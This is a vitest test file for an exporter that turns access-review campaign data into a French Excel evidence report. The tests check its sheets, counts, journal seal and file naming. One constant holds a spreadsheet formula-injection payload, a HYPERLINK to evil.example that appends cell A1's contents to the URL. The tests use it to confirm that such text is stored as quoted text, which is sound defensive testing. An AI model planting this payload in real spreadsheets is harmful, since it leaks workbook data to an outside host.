// The « Rapport de campagne » workbook built from a pack as the database hands it over, then read back as an auditor's
// spreadsheet would read it: its four sheets, its counts, the seal, and hostile text kept as text.
import * as XLSX from 'xlsx'
import { describe, expect, it } from 'vitest'
import { EvidenceSheets, requestBytes, workbookBytes } from '@/features/campaigns/excel'
import { nativeCompressor } from '@/lib/xlsx-writer'
import {
  DECISION_COLUMNS,
  EVIDENCE_SHEETS,
  SEAL_RESERVED,
  evidenceFileName,
  hasEvidencePack,
  type EvidenceItem,
  type EvidencePack,
} from '@/features/campaigns/evidence-model'

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'

function item(rightId: string, status: string, decisions: EvidenceItem['decisions'] = {}): EvidenceItem {
  return {
    right_id: rightId,
    holder_name: 'Julie Martin',
    holder_email: 'julie@example.com',
    manager_name: 'Marc Dubois',
    application_name: 'SAP Finance',
    role_name: 'Lecteur',
    account_type: 'standard',
    granted_at: Date.parse('2025-01-10T09:00:00Z'),
    last_used_at: null,
    justification: null,
    status,
    decisions,
  }
}

const decision = (outcome: 'approved' | 'refused', comment: string | null, ip: string | null = null) => ({
  decision: outcome,
  decided_by_name: 'Marc Dubois',
  decided_at: Date.parse('2025-10-20T08:30:00Z'),
  comment,
  ip_address: ip,
})

function pack(seal: EvidencePack['summary']['seal']): EvidencePack {
  return {
    summary: {
      campaign: {
        id: 'c1',
        name: 'Revue annuelle 2025',
        description: HOSTILE,
        status: 'completed',
        start_date: '2025-10-01',
        end_date: '2025-11-15',
        created_at: '2025-09-30T10:00:00Z',
        created_by_name: 'Alice Admin',
        application_name: null,
        account_type: null,
      },
      started: { at: '2025-10-01T08:00:00Z', by_name: 'Alice Admin' },
      completed: { at: '2025-11-16T17:00:00Z', by_name: 'Alice Admin' },
      items: 3,
      reviewed: 2,
      undecided: 1,
      progress: 67,
      by_status: { validated_bpo_groupe: 1, treated: 1, treatment_required: 1 },
      stages: [
        { stage: 'user', approved: 0, refused: 0, awaiting: 0 },
        { stage: 'manager', approved: 1, refused: 1, awaiting: 0 },
        { stage: 'bpo_metier', approved: 1, refused: 0, awaiting: 0 },
        { stage: 'bpo_groupe', approved: 1, refused: 0, awaiting: 0 },
        { stage: 'ra', approved: 1, refused: 0, awaiting: 1 },
      ],
      decisions_after_end: 2,
      generated_at: '2026-11-21T10:00:00Z',
      seal,
    },
    items: [
      item('r1', 'validated_bpo_groupe', {
        manager: decision('approved', null, '203.0.113.7'),
        bpo_metier: decision('approved', null),
        bpo_groupe: decision('approved', null),
      }),
      item('r2', 'treated', { manager: decision('refused', HOSTILE), ra: decision('approved', 'Compte supprimé') }),
      item('r3', 'treatment_required'),
    ],
    events: [
      {
        id: 41,
        timestamp: '2025-10-01T08:00:00Z',
        user_name: 'Alice Admin',
        user_email: 'admin@example.com',
        action: 'start_campaign',
        resource_type: 'campaigns',
        resource_id: 'c1',
        details: { rights_attached: 3 },
        ip_address: null,
      },
      {
        id: 42,
        timestamp: '2025-10-20T08:30:00Z',
        user_name: 'Marc Dubois',
        user_email: 'marc@example.com',
        action: 'decide',
        resource_type: 'user_rights',
        resource_id: 'r2',
        details: { comment: HOSTILE },
        ip_address: '203.0.113.7',
      },
    ],
    signoffs: [
      { stage: 'manager', reviewer_id: 'u2', reviewer_name: 'Marc Dubois', reviewer_email: 'marc@example.com', items_count: 3, open_count: 0, signed_at: '2025-10-21T09:15:00Z', ip_address: '203.0.113.7' },
      { stage: 'bpo_metier', reviewer_id: 'u3', reviewer_name: HOSTILE, reviewer_email: 'sophie@example.com', items_count: 2, open_count: 1, signed_at: null, ip_address: null },
      { stage: 'bpo_groupe', reviewer_id: null, reviewer_name: null, reviewer_email: null, items_count: 1, open_count: 0, signed_at: null, ip_address: null },
    ],
  }
}

const SEAL = { intact: true, rows_checked: 120, head_id: 120, head_hash: 'ab'.repeat(32), first_broken_id: null, reason: null }

async function readBack(evidence: EvidencePack) {
  const workbook = XLSX.read(await requestBytes({ pack: evidence }), { type: 'array', cellFormula: true })
  const rows = (sheet: string) => XLSX.utils.sheet_to_json<string[]>(workbook.Sheets[sheet]!, { header: 1, defval: '' })
  return { workbook, rows }
}

/** The value beside a label of the Synthèse sheet. */
const besides = (rows: string[][], label: string) => rows.find((row) => row[0] === label)?.[1]

describe('the Rapport de campagne workbook', () => {
  it('has the four sheets, one Décisions row per item and the Traitements RA of the refused and undecided ones', async () => {
    const { workbook, rows } = await readBack(pack(SEAL))
    expect(workbook.SheetNames).toEqual([...EVIDENCE_SHEETS])
    const decisions = rows('Décisions')
    expect(decisions[0]).toEqual(DECISION_COLUMNS)
    expect(decisions.slice(1).map((row) => row[0])).toEqual(['r1', 'r2', 'r3'])
    const ipColumn = DECISION_COLUMNS.indexOf('IP (Manager)')
    expect(decisions[1]![ipColumn]).toBe('203.0.113.7')
    const treatments = rows('Traitements RA').slice(1)
    expect(treatments.map((row) => [row[0], row[7]])).toEqual([
      ['r2', 'Traité'],
      ['r3', 'Non traité'],
    ])
    expect(treatments[1]![5]).toBe('Non décidé à la clôture')
    const journal = rows('Journal').slice(1)
    expect(journal.map((row) => [row[3], row[4]])).toEqual([
      ['Lancement de campagne', 'Campagne'],
      ['Décision', 'Droit'],
    ])
  })

  it('keeps the items in right id order when their pages arrive slice by slice in any order, as the worker reads them', async () => {
    const whole = pack(SEAL)
    const [first, second, third] = whole.items
    const sheets = new EvidenceSheets(2)
    sheets.add([third!], 1)
    sheets.add([first!], 0)
    sheets.add([second!], 0)
    const streamed = XLSX.read(await workbookBytes(sheets.workbook(whole.summary, whole.events, whole.signoffs)), { type: 'array' })
    const expected = await readBack(whole)
    expect(expected.rows('Décisions').slice(1).map((row) => row[0])).toEqual(['r1', 'r2', 'r3'])
    for (const name of EVIDENCE_SHEETS) {
      expect(XLSX.utils.sheet_to_json<string[]>(streamed.Sheets[name]!, { header: 1, defval: '' }), name).toEqual(expected.rows(name))
    }
  })

  it('writes the rows into their sheets as they come once the summary is known, slices in order whatever their pace', async () => {
    const whole = pack(SEAL)
    const [first, second, third] = whole.items
    const sheets = new EvidenceSheets(3)
    // Slice 1 ends before slice 0 has begun: its rows wait; slice 2 sends a page before the summary has arrived.
    sheets.add([second!], 1, true)
    sheets.add([], 2, false)
    sheets.begin(whole.summary)
    sheets.add([first!], 0, true)
    sheets.add([third!], 2, true)
    const streamed = XLSX.read(await workbookBytes(sheets.workbook(whole.summary, whole.events, whole.signoffs)), { type: 'array' })
    const expected = await readBack(whole)
    for (const name of EVIDENCE_SHEETS) {
      expect(XLSX.utils.sheet_to_json<string[]>(streamed.Sheets[name]!, { header: 1, defval: '' }), name).toEqual(expected.rows(name))
    }
    expect(streamed.Sheets['Décisions']!['!ref']).toBe(`A1:AJ4`)
  })

  it('reads back cell for cell the same when its journal comes page by page and every part goes to a compressor', async () => {
    const whole = pack(SEAL)
    const handed: number[] = []
    // As the export worker builds it: the shared strings compressed as they are added, the journal as its pages come.
    const sheets = new EvidenceSheets(1, {
      compressor: () => {
        const compressor = nativeCompressor()
        const part = handed.push(0) - 1
        return { push: (bytes) => ((handed[part]! += bytes.length), compressor.push(bytes)), finish: () => compressor.finish() }
      },
    })
    sheets.begin(whole.summary)
    sheets.addEvents(whole.events.slice(0, 1))
    sheets.add(whole.items, 0, true)
    sheets.addEvents(whole.events.slice(1))
    const bytes = await workbookBytes(sheets.workbook(whole.summary, whole.events, whole.signoffs))
    // Each part had its own: the shared strings, the two sheets written ahead, the three others and the five small parts.
    expect(handed).toHaveLength(11)
    expect(handed.every((size) => size > 0)).toBe(true)
    const streamed = XLSX.read(bytes, { type: 'array' })
    const expected = await readBack(whole)
    for (const name of EVIDENCE_SHEETS) {
      expect(XLSX.utils.sheet_to_json<string[]>(streamed.Sheets[name]!, { header: 1, defval: '' }), name).toEqual(expected.rows(name))
    }
  })

  it('refuses to write a pack whose items are not the ones its summary counted', async () => {
    const whole = pack(SEAL)
    const sheets = new EvidenceSheets(1)
    sheets.begin({ ...whole.summary, items: whole.items.length + 1 })
    sheets.add(whole.items, 0, true)
    await expect(workbookBytes(sheets.workbook(whole.summary, whole.events, whole.signoffs))).rejects.toThrow(/Feuille incomplète/)
  })

  it('lists each stage’s reviewers with their signature, who has not signed, and the items no reviewer had', async () => {
    const rows = (await readBack(pack(SEAL))).rows('Signatures')
    expect(rows[0]).toEqual(['Étape', 'Relecteur', 'E-mail', 'Droits confiés', 'Non décidés', 'Signé le', 'IP'])
    expect(rows[1]).toEqual(['Manager', 'Marc Dubois', 'marc@example.com', '3', '0', expect.stringMatching(/^21 octobre 2025 à \d{2}:15$/), '203.0.113.7'])
    // A name is text, never a formula, like every other cell of the pack.
    expect(rows[2]).toEqual(['BPO Métier', `'${HOSTILE}`, 'sophie@example.com', '2', '1', 'Non signé', ''])
    expect(rows[3]).toEqual(['BPO Groupe', 'Aucun relecteur désigné (relecteurs de secours)', '', '1', '0', '', ''])
  })

  it('sums the outcomes and per-stage figures in the Synthèse', async () => {
    const synthesis = (await readBack(pack(SEAL))).rows('Synthèse')
    expect(besides(synthesis, 'Campagne')).toBe('Revue annuelle 2025')
    expect(besides(synthesis, 'Applications')).toBe('Toutes')
    expect(besides(synthesis, 'Lancée par')).toBe('Alice Admin')
    // Two reviewed before the closure (one approved at the last stage, one refused and treated since), one sent on.
    expect(besides(synthesis, 'Droits de la campagne')).toBe('3')
    expect(besides(synthesis, 'Droits revus')).toBe('2')
    expect(besides(synthesis, 'Non décidés à la clôture (transmis au RA)')).toBe('1')
    expect(synthesis.find((row) => row[0] === 'Progression')?.slice(0, 3)).toEqual(['Progression', '67 %', 'droits revus / tous les droits'])
    expect(besides(synthesis, 'Traité')).toBe('1')
    expect(besides(synthesis, 'Traitement requis')).toBe('1')
    expect(besides(synthesis, 'Décisions après la date de fin')).toBe('2')
    // One validated right of three, said with what it counts, as on the RSSI dashboard.
    expect(synthesis.find((row) => row[0] === 'Taux de conformité')?.slice(0, 3)).toEqual(['Taux de conformité', '33 %', 'droits validés / tous les droits'])
    expect(synthesis.find((row) => row[0] === 'Manager')).toEqual(['Manager', '1', '1', '0', '100 %'])
    expect(besides(synthesis, 'Sceau du journal')).toBe('Intact')
    expect(besides(synthesis, 'Empreinte de tête (SHA-256)')).toBe('ab'.repeat(32))
  })

  it('says the seal is the RSSI’s when the pack was made by an administrator, and names a broken row', async () => {
    expect(besides((await readBack(pack(null))).rows('Synthèse'), 'Sceau du journal')).toBe(SEAL_RESERVED)
    const broken = { ...SEAL, intact: false, first_broken_id: 57, reason: 'hash_mismatch' }
    expect(besides((await readBack(pack(broken))).rows('Synthèse'), 'Sceau du journal')).toBe('Rompu à la ligne 57 (contenu modifié)')
  })

  it('keeps hostile text as text in every sheet: no formula, a leading quote', async () => {
    const { workbook } = await readBack(pack(SEAL))
    let quoted = 0
    for (const name of workbook.SheetNames) {
      const sheet = workbook.Sheets[name]!
      for (const [address, cell] of Object.entries(sheet)) {
        if (address.startsWith('!')) continue
        const value = cell as XLSX.CellObject
        expect(value.f).toBeUndefined()
        expect(value.t).toBe('s')
        const text = String(value.v)
        expect(text.startsWith('=')).toBe(false)
        if (text.startsWith("'=HYPERLINK")) quoted += 1
      }
    }
    // The description in the Synthèse, a reviewer's name in Signatures and the refusal's comment in Décisions and in
    // Traitements RA (the journal's details cell starts with its key, so it needs no quote).
    expect(quoted).toBe(4)
  })
})

describe('the pack around the workbook', () => {
  it('names the file after the campaign and the day', () => {
    expect(evidenceFileName('Revue annuelle 2025', new Date(2026, 10, 21))).toBe('rapport-campagne-revue-annuelle-2025-2026-11-21.xlsx')
    expect(evidenceFileName('Révision : accès / privilégiés', new Date(2026, 0, 5))).toBe('rapport-campagne-revision-acces-privilegies-2026-01-05.xlsx')
  })

  it('exists for completed and archived campaigns only', () => {
    expect(['draft', 'active', 'completed', 'archived'].filter(hasEvidencePack)).toEqual(['completed', 'archived'])
  })
})
